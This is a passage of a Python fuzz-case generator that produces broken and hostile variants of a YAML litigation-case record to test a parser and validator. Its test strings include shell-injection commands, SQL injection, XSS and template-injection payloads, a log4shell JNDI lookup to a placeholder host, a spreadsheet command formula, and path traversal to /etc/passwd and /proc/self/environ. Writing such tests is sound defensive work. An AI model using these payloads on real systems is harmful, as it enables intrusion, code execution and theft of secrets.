    room = MEBIBYTE - len(encoded(head)) - len(encoded(tail)) - 8
    return head + item * (room // len(encoded(item))) + tail


def sizes() -> Iterator[Piece]:
    """Yield files that are large, long or wide."""
    big: dict[str, str | bytes] = {
        "limit-less-one": filled(VALID, MEBIBYTE - 1),
        "limit": filled(VALID, MEBIBYTE),
        "limit-plus-one": filled(VALID, MEBIBYTE + 1),
        "three-mebibytes": filled(VALID, 3 * MEBIBYTE),
        "many-copies": VALID * (MEBIBYTE // len(VALID.encode())),
        "one-line": repeated("案由: ", "案"),
        "one-line-in-case": repeated(VALID + "备注: ", "x"),
        "one-quoted-line": repeated('案由: "', "x", '"\n'),
        "one-key": repeated("", "键", ": 值\n"),
        "key-1025": VALID + "k" * 1025 + ": 值\n",
        "key-2000": VALID + "键" * 2000 + ": 值\n",
        "value-of-words": repeated("案由: ", "责令 "),
        "flow-list": repeated("参加人: [", "1,", "1]\n"),
        "flow-list-in-case": repeated(VALID + "备注: [", "a,", "a]\n"),
        "flow-list-of-empty-maps": repeated("备注: [", "{},", "{}]\n"),
        "flow-list-open": repeated("参加人: [", "1,"),
        "commas": repeated("参加人: [", ","),
        "block-list": repeated("参加人:\n", "- 1\n"),
        "block-list-nulls": repeated("参加人:\n", "-\n"),
        "top-list": repeated("", "- 1\n"),
        "newlines": repeated("", "\n"),
        "newlines-in-case": repeated(VALID, "\n"),
        "newlines-then-key": repeated("", "\n", "案由：甲\n"),
        "crlf-only": repeated("", "\r\n"),
        "spaces-only": repeated("", " "),
        "tabs-only": repeated("", "\t"),
        "ideographic-spaces-only": repeated("", "\u3000"),
        "spaces-before-value": repeated("案由:", " ", "甲\n"),
        "spaces-after-value": repeated("案由: 甲", " ", "\n"),
        "spaces-in-value": repeated("案由: 甲", " ", "乙\n"),
        "spaces-before-colon": repeated("案由", " ", ": 甲\n"),
        "comment-lines": repeated("", "#\n"),
        "colons": repeated("案由: ", ":"),
        "full-width-colons": repeated("案由", "："),
        "full-width-lines": repeated("", "案：\n"),
        "hanzi-without-colon": repeated("", "案"),
        "hanzi-lines": repeated("", "案由\n"),
        "dashes": repeated("", "-"),
        "quotes": repeated("案由: ", "''"),
        "backslashes": repeated('案由: "', "\\\\", '"\n'),
        "unicode-escapes": repeated('案由: "', "\\u6848", '"\n'),
        "combining-marks": repeated("案由: a", "\u0301", "\n"),
        "emoji": repeated("案由: ", "😀", "\n"),
        "line-separators": repeated("案由: 甲", "\u2028", "\n"),
        "carriage-returns": repeated("案由: 甲", "\r"),
        "duplicate-keys": repeated("", "案由: 甲\n"),
        "distinct-keys": VALID + "".join(f"键{n}: {n}\n" for n in range(60_000)),
        "keys-near-a-real-one": VALID + "".join(f"案由{n}: 甲\n" for n in range(40_000)),
        "conflict-markers": repeated("", "<<<<<<< HEAD\n"),
        "documents": repeated("", "---\n"),
        "opened-quote": repeated("案由: '", "甲\n  "),
        "literal": repeated("案由: |\n", "  甲\n"),
        "anchors": repeated("", "- &a 1\n"),
        "defendants": VALID.replace(
            "第三人:",
            "".join(f"  - {{单位: 某局{n}, 地位: 共同被告}}\n" for n in range(15_000)) + "第三人:",
            1,
        ),
        "same-defendant": VALID.replace(
            "第三人:", "  - {单位: 县自然资源局, 地位: 共同被告}\n" * 12_000 + "第三人:", 1
        ),
        "plaintiffs": with_value("原告", "[" + "{姓名: 张某, 类型: 公民}, " * 20_000 + "]"),
        "risk-points": VALID.replace("复盘:", "  - {编号: JD-CX-03, 等级: 高}\n" * 18_000 + "复盘:", 1),
        "proceedings": VALID.replace(
            "\n履行:",
            "".join(f"  - {{审级: 二审, 案号: （2025）闽05行终{n}号}}\n" for n in range(100, 15_000))
            + "\n履行:",
            1,
        ),
        "hearings": VALID.replace(
            "    裁判:\n      文书: 判决",
            "      - {日期: 2025-05-13, 到庭: []}\n" * 15_000 + "    裁判:\n      文书: 判决",
            1,
        ),
        "performance": VALID.replace(
            "来函:", f"  - {{案号: {FIRST_NUMBER}, 单位: 县自然资源局, 内容: 甲}}\n" * 10_000 + "来函:", 1
        ),
        "suspensions": with_value(
            "中止", "[" + "{自: 2025-04-20, 至: 2025-05-08, 事由: 甲}, " * 15_000 + "]"
        ),
        "waivers": with_value("豁免", "[" + "{规则: YS301, 理由: 甲, 批准人: 乙}, " * 15_000 + "]"),
        "wrong-words": with_value("败诉原因", "[" + "错, " * 100_000 + "]"),
        "unit-name": with_value("承办单位", "县" * 300_000),
        "names": with_value("主持人", "林" * 300_000),
    }
    for name, content in big.items():
        yield f"size-{name}", content


# ---------------------------------------------------------------------------------------------- scalars

# One to a line would hide which belong together.
# fmt: off
SCALARS = (
    *(
        "yes", "no", "on", "off", "Yes", "NO", "y", "n", "~", "null", "Null", "NULL", "true", "false",
        "True", "TRUE",
    ),
    *(
        "0x10", "0o17", "0b11", "017", "1:30", "1_000", "1,000", "+1", "-1", "-0", "0", "1.", ".5", "1e3",
        "1e999",
    ),
    *("-1e999", "1e-400", ".inf", "-.Inf", ".nan", ".NaN", "1.5", "0.1", "99999999999999999999", "1" * 5000),
    *(
        "1e5000", "2025-03-06", "12:30:45", "=", "<<", "''", '" "', "二〇二五", "１２", "٣", "²", "½", "①", "零",
        "是是",
    ),
)
# fmt: on
SCALAR_KEYS = ("格式", "案由", "公益诉讼", "赔偿数额", "作出日期", "期限日数")


def scalars() -> Iterator[Piece]:
    """Yield plain values that YAML 1.1, a number parser or a yes/no field reads as something else."""
    for key, ascii_name in zip(
        SCALAR_KEYS, ("format", "text", "yes-no", "money", "date", "days"), strict=True
    ):
        yield from numbered(f"scalar-{ascii_name}", (with_value(key, value) for value in SCALARS))
    for value in (
        "null",
        "~",
        "yes",
        "no",
        "1",
        "1.5",
        "[]",
        "{}",
        "''",
        "2025-02-30",
        "是",
        "\u200b",
        "<<",
        "-1e999",
    ):
        yield f"scalar-everywhere-{ord(value[0]):x}-{len(value)}", SITE.sub(rf"\g<key>: {value}", VALID)
    days = (
        "99999999999",
        "999999999",
        "2147483648",
        "9223372036854775808",
        "3652060",
        "-60",
        "-99999999999",
        "六十",
    )
    yield from numbered(
        "performance-days",
        (with_value("期限日数", value) for value in (*days, "60日", "60.0", "60.5", "６０")),
    )
    money = (
        "-1",
        "1e999",
        "三万元",
        "30,000",
        "3万",
        "￥30000",
        "$5",
        "1.005",
        "0.1e1",
        "NaN",
        "Infinity",
        "9" * 400,
    )
    yield from numbered("money", (with_value("赔偿数额", value) for value in money))
    formats = (
        "2",
        "x",
        "0",
        "-1",
        "1.0",
        "'1'",
        "01",
        "1.",
        "一",
        "１",
        "[1]",
        "{1: 1}",
        "true",
        "99999999999999999999",
    )
    yield from numbered("format", (with_value("格式", value) for value in formats))
    yield "format-missing", swapped("格式: 1\n", "")
    yield "format-null", swapped("格式: 1\n", "格式:\n")
    yield "format-last", swapped("格式: 1\n", "") + "格式: 1\n"


# One to a line would hide which belong together.
# fmt: off
DATES = (
    *(
        "2025-02-30", "2025-02-29", "2025-04-31", "2025-13-01", "2025-00-10", "2025-01-00", "0000-00-00",
        "0000-01-01",
    ),
    *(
        "0001-01-01", "9999-12-31", "10000-01-01", "99999-01-01", "-2025-01-01", "1900-02-29", "2025-1-6",
        "2025-01-6",
    ),
    *(
        "25-01-06", "250106", "20250106", "2025/1/6", "2025/13/1", "2025.1.6", "2025.01", "2025-01", "2025",
        "2025年",
    ),
    *("2025年1月6日", "2025年1月6号", "2025年01月06日", "2025年2月30日", "2025年13月1日", "二〇二五年一月六日"),
    *("2025 年 1 月 6 日", "２０２５-０１-０６", "２０２５年１月６日", "２０２５－０１－０６", "٢٠٢٥-٠١-٠٦", "2025-01-²6"),
    *(
        "2025-01-06T00:00:00Z", "2025-01-06 00:00:00", "2025-01-06 09:00", "2025-01-06T00:00:00+08:00",
        "1736121600",
    ),
    *(
        "1736121600000", "45663", "45663.5", "1e9", "-1", "0", "明天", "今天", "待定", "2025-01-06左右",
        "约2025-01-06",
    ),
    *(
        "2025-01-06 / 2025-01-07", "2025-01-06至2025-01-07", "06/01/2025", "01-06-2025", "6 Jan 2025",
        "2025-W02-1",
    ),
    *(
        "2025-006", "2025–01–06", "2025—01—06", "2025−01−06", "2025_01_06", "2025-01-06.", "2025-01-06,",
        "'2025-01-06 '",
    ),
    *(
        '"2025-01-06\\n"', '"2025-01-06\\0"', "2025/01-06", "2025年1-6", "民国114年1月6日", "令和7年1月6日", "P1D",
        "now()",
    ),
    *(
        "[2025-01-06]", "{日: 2025-01-06}", "2025-01-06 # 注", "2025-0" + "1" * 5000, "9" * 5000,
        "2025-01-06" * 100,
    ),
)
# fmt: on


def dates() -> Iterator[Piece]:
    """Yield days that do not exist, and days as people write them, in three places; and the ends of the calendar."""
    yield from numbered("date-act", (with_value("作出日期", value) for value in DATES))
    yield from numbered(
        "date-hearing", (swapped("日期: 2025-05-12", f"日期: {value}") for value in DATES[:40])
    )
    quoted = (f"'{value}'" if re.search(r"[\[{,#]", value) else value for value in DATES[:48])
    yield from numbered(
        "date-flow", (swapped("{告知日期: 2024-12-10", f"{{告知日期: {value}") for value in quoted)
    )
    day = re.compile(r"\d{4}-\d\d-\d\d")
    for extreme in ("0001-01-01", "9999-12-31"):
        what = f"date-year-{int(extreme[:4])}"
        for number, match in enumerate(day.finditer(VALID), 1):
            yield f"{what}-{number:02d}", VALID[: match.start()] + extreme + VALID[match.end() :]
        yield f"{what}-everywhere", day.sub(extreme, VALID)
    swing = cycle(("0001-01-01", "9999-12-31"))
    yield "date-swinging", day.sub(lambda _: next(swing), VALID)
    yield "date-all-same", day.sub("2025-05-12", VALID)
    yield "date-all-2099", day.sub("2099-01-01", VALID)
    yield "date-all-1899", day.sub("1899-12-31", VALID)
    days = iter(sorted(day.findall(VALID), reverse=True))
    yield "date-all-reversed", day.sub(lambda _: next(days), VALID)


# ---------------------------------------------------------------------------------- syntax and wrong types

VALUES = {
    "quote-open": '"责令',
    "single-quote-open": "'责令",
    "quote-then-text": '"责令" 退还',
    "quote-inside": '责令"退还"',
    "apostrophe": "'it's'",
    "escape-q": '"\\q"',
    "escape-x": '"\\xzz"',
    "escape-u": '"\\u12"',
    "escape-end": '"\\"',
    "windows-path": '"C:\\Users\\x"',
    "percent": "%责令",
    "at": "@责令",
    "backtick": "`责令`",
    "star": "*责令",
    "ampersand": "&责令",
    "ampersand-text": "& 责令",
    "exclamation": "!责令",
    "pipe-text": "| 责令",
    "greater-text": "> 责令",
    "question": "? 责令",
    "dash": "- 责令",
    "comma": ", 责令",
    "hash": "#责令",
    "colon-space": "甲: 乙: 丙",
    "colon-end": "甲:",
    "colon-start": ": 甲",
    "bracket-open": "[责令",
    "bracket-close": "责令]",
    "bracket-only-close": "]",
    "brace-open": "{责令",
    "brace-only-close": "}",
    "brace-text-after": "{甲: 乙} 丙",
    "bracket-text-after": "[甲] 乙",
    "brackets-crossed": "[{甲: 乙]}",
    "braces-double": "{{ 甲 }}",
    "list-no-comma": "[甲 乙]",
    "list-comma-first": "[, 甲]",
    "map-no-colon": "{甲 乙}",
    "map-no-space": "{甲:乙}",
    "map-only-colon": "{:}",
    "map-double-colon": "{甲: 乙: 丙}",
    "block-in-flow": "[\n- 甲\n]",
    "comment-in-flow": "[甲, # 注\n乙",
    "document-in-quotes": '"甲\n---\n乙"',
    "document-in-flow": "[甲,\n---\n乙]",
    "flow-not-indented": "{甲: 乙,\n丙: 丁}",
    "literal-less-indent": "|\n    甲\n  乙",
    "literal-tab": "|\n\t甲",
    "reference": "&amp;甲&#x41;",
}
TEXTS = {
    "template": "{{ 7 * 7 }}",
    "template-attribute": "{{ ''.__class__.__mro__[1].__subclasses__() }}",
    "template-statement": "{% for x in range(10**9) %}x{% endfor %}",
    "template-comment": "{# 甲 #}",
    "dollar-brace": "${jndi:ldap://example.invalid/a}",
    "shell": "$(touch /tmp/hostile) `id` ; rm -rf x | true && :",
    "percent-format": "%s%n%(x)s",
    "brace-format": "{0.__class__} {x!r:>9999999999}",
    "script": "<script>alert(1)</script>",
    "image": "<img src=x onerror=alert(1)>",
    "entity": "&lt;b&gt; &#0; ]]> <!--",
    "formula": "=1+1",
    "formula-plus": "+1+1",
    "formula-minus": "-1+1",
    "formula-at": "@SUM(1+1)",
    "formula-tab": "\\t=1+1",
    "formula-command": "=cmd|'/c calc'!A0",
    "formula-link": '=HYPERLINK("http://example.invalid","甲")',
    "formula-full-width": "＝1+1",
    "terminal-colour": "\\e[31m红\\e[0m",
    "terminal-title": "\\e]0;标题\\a",
    "terminal-clear": "\\e[2J\\e[H",
    "terminal-link": "\\e]8;;http://example.invalid\\e\\\\甲\\e]8;;\\e\\\\",
    "terminal-c1": "\\x9b31m红",
    "carriage-return": "真名\\r假名",
    "backspace": "真名\\b\\b假",
    "newline": "甲\\n# 标题\\n| 表 | 格 |",
    "rich-markup": "[bold red]甲[/] [link=file:///etc/passwd]乙[/link]",
    "rich-unclosed": "[/甲] [",
    "markdown": "# 甲*_`~|",
    "markdown-link": "[甲](javascript:alert(1)) ![乙](http://example.invalid/x.png)",
    "markdown-table": "甲 | 乙 || 丙",
    "csv": '甲","乙\\r\\n=1+1',
    "sql": "'; DROP TABLE cases; --",
    "like": "%_甲",
    "xml-control": "\\x0b\\x0c\\x1f\\uFFFE",
    "github-command": "::error file=x,line=1::甲",
    "azure-command": "##vso[task.setvariable variable=x]y",
    "log4shell": "${env:HOME}",
    "emoji": "😀👨‍👩‍👧‍👦🇨🇳",
    "astral-han": "\\U00020BB7野家\\U0002A6D6",
    "private-use": "\\uE000\\uF8FF",
    "rtl": "\\u202Egpj.exe",
    "zalgo": "张\\u0300\\u0301\\u0302\\u0303\\u0304\\u0305某",
    "homoglyph": "县⾃然资源局",
    "invisible": "\\u200B",
    "only-spaces": "   ",
    "long-word": "长" * 40_000,
    "sheet-cell-limit": "长" * 32_768,
    "punctuation": "。，、；：？！…—·ˉˇ¨〃々～‖∶＂＇｀｜〔〕〈〉《》「」『』．〖〗【】（）［］｛｝",
}
CONFLICTS = {
    "two-way": "<<<<<<< HEAD\n案由: 甲\n=======\n案由: 乙\n>>>>>>> 分支\n",
    "diff3": "<<<<<<< HEAD\n案由: 甲\n||||||| 3f2a1b0\n案由: 丙\n=======\n案由: 乙\n>>>>>>> 分支\n",
    "jj": "<<<<<<< Conflict 1 of 1\n%%%%%%% diff\n-案由: 甲\n+案由: 乙\n+++++++ side\n案由: 丙\n>>>>>>> end\n",
    "leftover-head": "<<<<<<< HEAD\n案由: 甲\n",
    "leftover-middle": "案由: 甲\n=======\n",
    "leftover-end": "案由: 甲\n>>>>>>> 分支\n",
    "crlf": "<<<<<<< HEAD\r\n案由: 甲\r\n=======\r\n案由: 乙\r\n>>>>>>> 分支\r\n",
}


def syntax() -> Iterator[Piece]:
    """Yield values that break the line, texts that mean something elsewhere, and conflicts of a merge."""
    for name, value in VALUES.items():
        yield f"value-{name}", with_value("案由", value)
        yield f"value-{name}-nested", with_value("法院", value)
    for name, text in TEXTS.items():
        quoted = text.replace('"', '\\"')
        yield f"text-{name}", VALID.replace("责令退还非法占用土地", f'"{quoted}"', 1)
        yield f"text-{name}-as-party", swapped("姓名: 张某", f'姓名: "{quoted}"')
        yield f"text-{name}-as-unit", VALID.replace("单位: 县自然资源局", f'单位: "{quoted}"')
    for name, text in CONFLICTS.items():
        yield f"conflict-{name}", swapped("案由: 责令退还非法占用土地\n", text)
        yield f"conflict-{name}-nested", swapped("    法院: 南安市人民法院\n", text)


SITE = re.compile(r'(?P<key>[一-鿿]+): (?P<value>[^\s,{}\[\]#"|][^,{}\[\]\n#]*)')
"""A key with a plain value, in block or flow style."""
WRONG_FOR_TEXT = ("{错: 误}", "[错]", "null", "[[错]]", "[]", "{}", "[{错: 误}]", "''")
WRONG_FOR_COLLECTION = (
    "错",
    "null",
    "[错]",
    "{错: 误}",
    "[[]]",
    "[null]",
    "{~: ~}",
    "0",
    "[{}]",
    "''",
    "否",
    "2025-02-30",
)


def wrong_types() -> Iterator[Piece]:
    """Yield the valid case with a value of another type in each place, one place at a time."""
    wrong = cycle(WRONG_FOR_TEXT)
    for number, match in enumerate(SITE.finditer(VALID), 1):
        start, end = match.span("value")
        yield f"type-text-{number:03d}", VALID[:start] + next(wrong) + VALID[end:]
    other = cycle(WRONG_FOR_COLLECTION)
    for number, (start, end) in enumerate(collections(), 1):
        for way, value in enumerate(islice(other, 3), 1):
            yield f"type-collection-{number:03d}-{way}", f"{VALID[:start]} {value}{VALID[end:]}"
    for number, must in enumerate(
        ("格式: 1", "案由: 责令退还非法占用土地", "行为类别: 行政处罚", "管理领域: 自然资源"), 1
    ):
        key = must.partition(":")[0]
        yield f"must-null-{number}", swapped(f"\n{must}", f"\n{key}:")
        yield f"must-missing-{number}", swapped(f"\n{must}", "")
        for way, value in enumerate(WRONG_FOR_TEXT, 1):
            yield f"must-{number}-type-{way}", swapped(f"\n{must}", f"\n{key}: {value}")


def collections() -> Iterator[tuple[int, int]]:
    """Yield where each list or mapping of the valid case begins and ends, from the colon of its key on."""
    for match in re.finditer(r"(?<=:) (?=[\[{])", VALID):
        level = 0
        for end in range(match.end(), len(VALID)):
            level += (VALID[end] in "[{") - (VALID[end] in "]}")
            if level == 0:
                yield match.start(), end + 1
                break
    for match in re.finditer(r"(?m)^( *)(?:- )?[一-鿿]+:(?=\n)", VALID):
        body = re.compile(rf"(?:\n(?:{match[1]} .*)?(?=\n))*").match(VALID, match.end())
        yield match.end(), body.end() if body else match.end()


# ------------------------------------------------------------------------------- words, keys, numbers, paths

WORDS = {
    "类型: ": "公民 组织",
    "地位: ": "原行为机关 复议机关",
    "审级: ": "一审 二审 再审审查",
    "程序: ": "普通程序",
    "方式: ": "开庭 补救补偿",
    "身份: ": "副职负责人 工作人员 律师",
    "事由: ": "履行他人不能代替的公务",
    "文书: ": "判决 裁定",
    "审查结果: ": "维持 驳回申请",
    "结果: ": "维持 撤销并责令重作 撤销",
    "败诉原因: [": "程序缺失",
    "上诉方: ": "被告",
    "种类: ": "败诉风险提示函",
    "落实情况: ": "已落实",
    "败诉风险: ": "高",
    "等级: ": "高",
    "阶段: ": "送达",
    "结论: ": "存在问题",
    "主体合法: ": "合格",
    "现场笔录: ": "有",
    "身份证明: ": "合格",
    "典型案例: ": "是",
    "行为类别: ": "行政处罚",
    "管理领域: ": "自然资源",
}
"""Each field with a vocabulary, and the words of it that the valid case has."""
VOCABULARIES = {
    "行为类别: 行政处罚": """行政处罚 行政强制措施 行政强制执行 行政许可 行政征收或者征用 行政登记 行政确认 行政给付 行政允诺
        行政征缴 行政奖励 行政收费 政府信息公开 行政批复 行政处理 行政复议 行政裁决 行政协议 行政补偿 行政赔偿 不履行职责 公益诉讼""",
    "管理领域: 自然资源": """公安 自然资源 住房和城乡建设 城市管理 市场监管 人力资源和社会保障 生态环境 农业农村 林业 水利 交通运输
        卫生健康 教育 民政 应急管理 税务 司法行政 文化和旅游 发展改革 工业和信息化 财政 统计 审计 医疗保障 退役军人 烟草 海关 乡镇综合 其他""",
    "结果: 撤销并责令重作": """驳回诉讼请求 维持 驳回起诉 不予立案 准许撤诉 按撤诉处理 调解 移送 终结诉讼 撤销 部分撤销 撤销并责令重作
        责令履行 给付 确认违法 确认无效 变更 责令赔偿 责令补偿 责令采取补救措施 责令继续履行协议 准予执行 不准予执行""",
    "审查结果: 维持": "维持 改判 部分改判 发回重审 指令继续审理 撤回上诉 撤回起诉 调解 驳回申请 提审 指令再审 撤回申请",
    "败诉原因: [程序缺失": "程序缺失 证据瑕疵 法律适用错误 事实认定不清 裁量不当 超越职权 滥用职权 不履行法定职责",
    "身份: 副职负责人": "正职负责人 副职负责人 分管负责人 工作人员 律师 其他代理人",
    "事由: 履行他人不能代替的公务": "不可抗力 意外事件 履行他人不能代替的公务 其他正当事由",
    "种类: 败诉风险提示函": "败诉风险提示函 司法建议书 意见书 检察建议书 行政复议意见书",
    "方式: 补救补偿": "撤销原行为 变更原行为 履行职责 补救补偿 和解",
    "结果: 维持": "驳回复议请求 部分维持 程序性确认违法 改变 确认违法 确认无效 不予受理 逾期未决定",
}
"""The whole vocabularies, each with a place of the valid case to put its words in."""


def misspelt(word: str, way: int) -> str:
    """Return a word as somebody in a hurry writes it, in one of eight ways."""
    ways = (
        word[:-1] or "错",
        word + "。",
        word + word[-1],
        f"{word[0]} {word[1:]}x",
        word[::-1] if len(set(word)) > 1 else word * 2,
        f"“{word}”",
        word + "（）",
        "\u3000".join(word) + "\u3000",
    )
    return ways[way % len(ways)]


def words() -> Iterator[Piece]:
    """Yield every word of a vocabulary misspelt, and words that belong to another field or instance."""
    way = count()
    for number, (field, known) in enumerate(WORDS.items(), 1):
        for word in known.split():
            for _ in range(2):
                wrong = misspelt(word, next(way))
                yield f"word-{number:02d}-{next(way):03d}", swapped(f"{field}{word}", f"{field}{wrong}")
                next(way)
    for number, (place, known) in enumerate(VOCABULARIES.items(), 1):
        field = place[: re.match(r".*?: \[?", place).end()]  # type: ignore[union-attr]  # each place has a colon
        for index, word in enumerate(known.split(), 1):
            yield f"vocabulary-{number:02d}-{index:02d}", swapped(place, f"{field}{misspelt(word, index)}")
    strangers = {
        "result-of-enforcement": swapped("结果: 撤销并责令重作", "结果: 准予执行"),
        "result-list": swapped("结果: 撤销并责令重作", "结果: [撤销, 撤销, 驳回诉讼请求]"),
        "result-list-empty": swapped("结果: 撤销并责令重作", "结果: []"),
        "result-list-nested": swapped("结果: 撤销并责令重作", "结果: [[撤销]]"),
        "result-map": swapped("结果: 撤销并责令重作", "结果: {撤销: 是}"),
        "review-at-first-instance": swapped("      结果:\n", "      审查结果: 发回重审\n      结果:\n"),
        "remand-with-result": swapped("审查结果: 维持", "审查结果: 发回重审\n      结果: 撤销"),
        "changed-without-result": swapped("审查结果: 维持", "审查结果: 改判"),
        "changed-for-stranger": swapped(
            "审查结果: 维持", "审查结果: 改判\n      结果: [{单位: 某省, 结果: 撤销}]"
        ),
        "traditional": swapped("行为类别: 行政处罚", "行为类别: 行政處罰"),
        "compatibility-form": swapped("审级: 一审", "审级: ⼀审"),
        "pinyin": swapped("审级: 一审", "审级: yishen"),
        "english": swapped("审级: 一审", "审级: first"),
        "instance-digit": swapped("审级: 一审", "审级: 1审"),
        "list-for-word": swapped("审级: 一审", "审级: [一审, 二审]"),
        "slash": swapped("等级: 高", "等级: 高/中"),
    }
    yield from ((f"word-{name}", text) for name, text in strangers.items())


def keys() -> Iterator[Piece]:
    """Yield unknown keys, each one edit from a real one."""
    found = dict.fromkeys(match[1] for match in re.finditer(r"([一-鿿]{2,}):", VALID))
    edits = cycle(("drop", "double", "swap", "replace", "prefix"))
    for number, (key, edit) in enumerate(zip(found, edits, strict=False), 1):
        wrong = {
            "drop": key[:-1],
            "double": key + key[-1],
            "swap": key[1] + key[0] + key[2:] if key[0] != key[1] else f"{key}们",
            "replace": f"{key[:-1]}们",
            "prefix": f"某{key}",
        }[edit]
        yield f"key-{number:03d}-{edit}", swapped(f"{key}:", f"{wrong}:")
    yield "key-unknown-beside", with_lines("备注: 甲\n承办法官: 乙\n审理法院: 丙")
    yield "key-of-enforcement", with_lines("申请执行人: [县自然资源局]\n被执行人: [张某]")
    yield "key-of-screening", with_lines("排查日期: 2025-05-08\n行为: 拆除违法建设")
    yield "key-of-settings", with_lines("口径: {出庭率: {计数: 案号}}")
    yield "key-of-another-level", with_lines("案号: （2025）闽0583行初12号\n法院: 某法院")
    yield "key-case", with_lines("ID: 1\nid: 2\nTODO: 甲")


# One to a line would hide which belong together.
# fmt: off
NUMBERS = (
    *("(2025)闽0583行初12号", "〔2025〕闽0583行初12号", "[2025]闽0583行初12号", "【2025】闽0583行初12号"),
    *("（2025)闽0583行初12号", "(2025）闽0583行初12号", "2025闽0583行初12号", "（2025闽0583行初12号", "2025）闽0583行初12号"),
    *("（25）闽0583行初12号", "（20255）闽0583行初12号", "（0000）闽0583行初12号", "（9999）闽0583行初12号", "（）闽0583行初12号"),
    *("（２０２５）闽０５８３行初１２号", "（二〇二五）闽0583行初12号", "（2025）0583行初12号", "（2025）X0583行初12号"),
    *("（2025）闽583行初12号", "（2025）闽05830行初12号", "（2025）闽O583行初12号", "（2025）闽0583行出12号", "（2025）闽0583初12号"),
    *("（2025）闽0583民初12号", "（2025）闽0583刑初12号", "（2025）闽0583行保12号", "（2025）闽0583执12号", "（2025）闽0583行审12号"),
    *("（2025）闽0583行初号", "（2025）闽0583行初12", "（2025）闽0583行初0012号", "（2025）闽0583行初-12号", "（2025）闽0583行初12.5号"),
    *("（2025）闽0583行初0号", "（2025）闽0583行初12、13号", "（2025）闽0583行初12-15号", "（2025）闽0583行初12号之一"),
    *("（2025）闽0583行初12号之百", "（2025）闽0583行初第12号", "（2025）南行初字第12号", "（2014）德行初字第3号", "（2025）闽0583行初12號"),
    *("（2025）閩0583行初12号", "（2025） 闽0583 行初 12 号", "（2025）闽0583行初12号（2025）闽0583行初13号", "闽0583法提〔2025〕1号"),
    *("（2025）最高法行申12号", "（2025）闽行终12号", "（2025）闽05行终34号", "（2025）闽0583行初①②号", "（2025）闽0583行初٣号"),
    *(
        "待定", "无", "-", "''", "12", "1e3", "true", "~", "[（2025）闽0583行初12号]", "{号: 12}",
        "'（2025）闽0583行初12号 '",
    ),
    *('"（2025）闽0583行初12号\\n"', '"（2025）闽0583行初\\u200b12号"', '"（2025）闽0583行初12号\\0"', "行初12号", "号"),
    *("（2025）闽0583行初" + "9" * 5000 + "号", "（" * 5000, "（2025）闽0583" + "行" * 50_000 + "初12号"),
    *("（2025）" + "闽" * 50_000, "（2025）闽0583行初12号" * 2000, "（2025）闽0583行初12号之" + "一" * 50_000),
)
# fmt: on


def case_numbers() -> Iterator[Piece]:
    """Yield case numbers mutilated, repeated and pointing nowhere."""
    yield from numbered("number", (swapped(f"案号: {FIRST_NUMBER}", f"案号: {value}") for value in NUMBERS))
    target = "履行:\n  - 案号: （2025）闽05行终34号"
    yield from numbered(
        "performance-number",
        (
            swapped(target, f"履行:\n  - 案号: {value}")
            for value in (
                "（2025）闽05行终99号",
                "(2025)闽05行终34号",
                "（2026）闽05行终34号",
                "（2025）闽行申56号",
                "''",
                "[]",
                "无",
            )
        ),
    )
    whole: dict[str, str] = {
        "same-twice": swapped("（2025）闽05行终34号", FIRST_NUMBER),
        "same-twice-half-width": swapped("（2025）闽05行终34号", "(2025)闽0583行初12号"),
        "all-same": re.sub("（2025）闽[^号]*号", FIRST_NUMBER, VALID),
        "missing": swapped(f"    案号: {FIRST_NUMBER}\n", ""),
        "performance-without": swapped(
            "\n  - 案号: （2025）闽05行终34号\n    单位: 县自", "\n  - 单位: 县自"
        ),
        "instances-reversed": swapped("审级: 一审", "审级: 再审").replace("审级: 二审", "审级: 一审", 1),
        "instances-all-first": VALID.replace("审级: 二审", "审级: 一审").replace(
            "审级: 再审审查", "审级: 一审"
        ),
        "instances-all-second": VALID.replace("审级: 一审", "审级: 二审"),
        "no-proceedings": VALID[: VALID.index("\n审理:")] + VALID[VALID.index("\n履行:") :],
        "empty-proceedings": VALID[: VALID.index("\n审理:")]
        + "\n审理: []\n"
        + VALID[VALID.index("\n履行:") :],
        "null-proceeding": swapped("审理:\n", "审理:\n  -\n"),
        "empty-proceeding": swapped("审理:\n", "审理:\n  - {}\n"),
        "text-proceeding": swapped("审理:\n", "审理:\n  - 一审\n"),
        "enforcement-with-defendants": swapped("审级: 一审", "审级: 非诉审查"),
    }
    yield from ((f"number-{name}", text) for name, text in whole.items())


# One to a line would hide which belong together.
# fmt: off
PATHS = (
    *(
        "../../x", "../x.pdf", "材料/../../x.pdf", "材料/../../../../../../etc/passwd", "/etc/passwd", "/",
        "//etc/passwd",
    ),
    *(
        ".", "..", "./材料/x.pdf", "材料/./x.pdf", "材料//x.pdf", "材料/", "材料", "case.yaml", "材料/没有的.pdf", "''",
        "' '",
    ),
    *(
        "C:\\x", "C:x", "c:/windows/win.ini", "\\\\server\\x", "//server/share/x", "\\\\?\\C:\\x",
        "\\\\.\\PhysicalDrive0",
    ),
    *(
        "材料\\x.pdf", "材料\\..\\..\\x", "..\\x", "材料/x.pdf:流", "材料/CON", "材料/nul.pdf", "材料/COM1", "材料/x.",
        "材料/x ",
    ),
    *(
        "~/x", "~root/x", "$HOME/x", "%USERPROFILE%\\x", "file:///etc/passwd",
        "http://example.invalid/x.pdf", "材料/*.pdf",
    ),
    *(
        '"材料/\\0x.pdf"', '"材料/a\\nb.pdf"', '"材料/\\u202egpj.exe"', '"材料/\\ud800.pdf"', "材料/😀.pdf", "材料/ｘ．ｐｄｆ",
        "材料/．．/x",
    ),
    *(
        "材料/" + "长" * 300 + ".pdf", "材料/" + "a/" * 3000 + "x", "../" * 3000 + "x", "材料/-rf", "/dev/zero",
        "/dev/stdin",
    ),
    *(
        "/proc/self/environ", "/proc/self/mem", "[材料/x.pdf]", "{文件: x}", "null", "材料/x.pdf?a=1#b",
        "..%2f..%2fx", "材料/..;/x",
    ),
)
# fmt: on


def paths() -> Iterator[Piece]:
    """Yield paths that lead outside the case's directory, or nowhere."""

    def quoted(path: str) -> str:
        return path if path[0] in "\"'[{" or path == "null" else "'" + path.replace("'", "''") + "'"

    yield from numbered(
        "path",
        (swapped("{名称: 应诉通知书,", f"{{名称: 应诉通知书, 文件: {quoted(path)},") for path in PATHS),
    )
    few = PATHS[:8]
    yield from numbered(
        "path-proof", (swapped("    期限: 2025", f"    凭证: {quoted(path)}\n    期限: 2025") for path in few)
    )
    yield from numbered(
        "path-report", (swapped("  主持人:", f"  报告: {quoted(path)}\n  主持人:") for path in few)
    )
    yield from numbered(
        "path-absence", (swapped("说明: 防汛指挥,", f"说明: 防汛指挥, 材料: {quoted(path)},") for path in few)
    )
    yield from numbered(
        "path-correction",
